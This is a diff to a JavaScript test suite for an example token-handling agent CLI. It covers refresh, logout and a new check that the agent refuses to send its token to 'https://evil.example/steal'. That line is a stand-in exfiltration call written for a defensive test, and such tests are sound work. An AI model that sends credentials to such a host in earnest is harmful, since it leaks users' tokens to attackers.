@@ -63,6 +63,10 @@ describe('examples/agent', function () {
     expect(second.refresh_token).not.to.equal(first.refresh_token);
     expect(second.access_token).not.to.equal(first.access_token);
 
+    const elsewhere = agent('call', 'https://evil.example/steal');
+    expect(await elsewhere.exited).to.equal(1);
+    expect(elsewhere.output()).to.contain('refusing to send the token to https://evil.example');
+
     const logout = agent('logout');
     expect(await logout.exited, logout.output()).to.equal(0);
     expect(await stat(tokenFile).then(() => 'present', () => 'removed')).to.equal('removed');
